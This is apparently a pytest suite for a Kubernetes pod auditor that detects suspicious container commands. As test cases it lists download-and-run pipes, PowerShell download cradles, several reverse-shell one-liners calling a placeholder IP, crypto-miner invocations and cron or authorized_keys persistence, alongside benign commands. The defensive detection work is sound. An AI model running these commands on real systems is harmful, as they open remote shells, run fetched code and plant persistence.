"""Commands: what is suspicious, what is not, and that none is repeated."""

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from iocaudit.knowledge.command import LONGEST, MINERS, suspicions
from tests.support.auditing import container, evidence, judge, messages, places, pod


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl -fsSL http://x.example/a.sh | bash", "download-and-run"),
        ("wget -qO- https://x.example/a|/bin/sh", "download-and-run"),
        ("bash <(curl -s http://x.example)", "download-and-run"),
        ('bash -c "$(curl -fsSL http://x.example)"', "download-and-run"),
        ("curl -o /tmp/a http://x.example/a && chmod +x /tmp/a && /tmp/a", "download-and-run"),
        ("wget http://x.example/a; sh a", "download-and-run"),
        ("echo aGk= | base64 -d | sh", "download-and-run"),
        ("curl -fsSL http://x.example/a|sudo -E bash -", "download-and-run"),
        ("curl -s http://x.example | env A=1 FOO= sh", "download-and-run"),
        ("curl http://x.example/a | tee a.log | sh", "download-and-run"),
        ("curl -s http://x.example/a.py | python3", "download-and-run"),
        ("curl -s http://x.example/a.py | python3 - --now", "download-and-run"),
        ("curl -s http://x.example/a.pl | perl && echo done", "download-and-run"),
        ('python3 -c "$(curl -s http://x.example/a.py)"', "download-and-run"),
        ("source <(curl -s http://x.example/a)", "download-and-run"),
        ("set -e; . <(wget -qO- http://x.example/a)", "download-and-run"),
        ("pwsh -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", "download-and-run"),
        ("powershell -c iwr http://x.example/a.ps1 | iex", "download-and-run"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
        ("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell"),
        ("ncat --exec /bin/bash 10.0.0.1 4444", "reverse-shell"),
        ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "reverse-shell"),
        ("socat tcp:10.0.0.1:4444 exec:/bin/sh", "reverse-shell"),
        ("nc 10.0.0.1 7000 -e /bin/catsh", "reverse-shell"),
        ("ncat -l 7000 -c 'cat | sh'", "reverse-shell"),
        ("socat tcp-listen:7 system:sh", "reverse-shell"),
        (
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "reverse-shell",
        ),
        ("xmrig -o pool.supportxmr.com:443", "miner"),
        ("telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445", "reverse-shell"),
        ("nohup /tmp/xmrig &", "miner"),
        ("/tmp/kdevtmpfsi", "miner"),
        ("./a -o stratum+tcp://pool.example:3333 -u w", "stratum"),
        ("./a --url=pool.example:3333 --user w", "stratum"),
        ("echo '* * * * * root x' > /etc/cron.d/x", "persistence"),
        ("(crontab -l; echo x) | crontab -", "persistence"),
        ("cat key >> /root/.ssh/authorized_keys", "persistence"),
    ],
)
def test_what_an_attack_looks_like(line: str, expected: str) -> None:
    found = judge("suspicious-command", pod(container(command=["sh", "-c", line])))
    assert expected in evidence(found)
    assert line not in found[0].message


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsS http://localhost:8080/healthz",
        "curl http://x.example/data.json | jq .name",
        "wget -q --spider http://localhost/ || exit 1",
        "curl -fsS http://localhost/ || sh /fallback.sh",
        "curl -s http://x.example/data.json | python3 -m json.tool",
        "curl -s http://x.example/data.json | python3 /app/read.py",
        "curl -s http://x.example/data.json | python -c 'import json, sys; print(json.load(sys.stdin))'",
        "curl -s http://x.example/data.json | perl -ne 'print'",
        "curl -s http://x.example/data.json | node /app/read.js",
        "source /etc/profile; . ./env.sh",
        "nc -z localhost 5432",
        "echo quit | telnet localhost 25 | grep 220",
        "nc -lk -p 7000 -e /bin/cat",
        "ncat -l 7000 --keep-open --exec=/bin/cat",
        "socat tcp-listen:7,fork exec:cat",
        "until nc -vz db 5432; do sleep 1; done",
        "exec /app/server --url=http://api.example:8080",
        "crond -f",
        "cat /etc/crontab",
        "python -m http.server 8080",
        "echo 'download the shell' > /tmp/notes",
        "/usr/bin/prometheus --storage.tsdb.path=/data",
        "echo $DATA | base64 -d > /tmp/file",
        "rsync -a /src /dst",
    ],
)
def test_what_services_do_every_day(line: str) -> None:
    assert judge("suspicious-command", pod(container(command=["sh", "-c", line]))) == []


def test_arguments_probes_hooks_scripts_and_images_are_read() -> None:
    evil = "curl http://x.example/a | sh"
    handler = {"exec": {"command": ["sh", "-c", evil]}}
    subject = pod(
        container(args=["-c", evil], livenessProbe=handler, lifecycle={"preStop": handler}),
        container(name="coin", image="docker.io/someone/xmrig:6"),
    )
    assert places(judge("suspicious-command", subject)) == [
        'spec.containers["app"].args',
        'spec.containers["app"].livenessProbe.exec.command',
        'spec.containers["app"].lifecycle.preStop.exec.command',
        'spec.containers["coin"].image',
    ]


@given(st.lists(st.text(max_size=200), max_size=6))
def test_any_argv_can_be_read(argv: list[str]) -> None:
    assert all(found.id and found.words for found in suspicions(argv))


@given(st.sampled_from(sorted(MINERS)), st.sampled_from(["", "/usr/bin/", "./"]))
def test_a_miner_is_known_wherever_it_lies(name: str, folder: str) -> None:
    assert "miner" in {found.id for found in suspicions([folder + name, "--threads", "4"])}


def test_of_a_pod_with_endless_commands_the_last_are_said_to_be_unread() -> None:
    """Hundreds of commands made to cost a second each would outlast the webhook."""
    long = "requests get(" * (LONGEST // 13 - 2)
    text = yaml.safe_dump(pod(*(container(name=f"c{n}", command=["sh", "-c", long]) for n in range(5))))
    said = messages("suspicious-command", text)
    unread = [one for one in said if "stand before it" in one]
    assert len(unread) == 2
    assert 'spec.containers["c4"].command' in unread[-1]
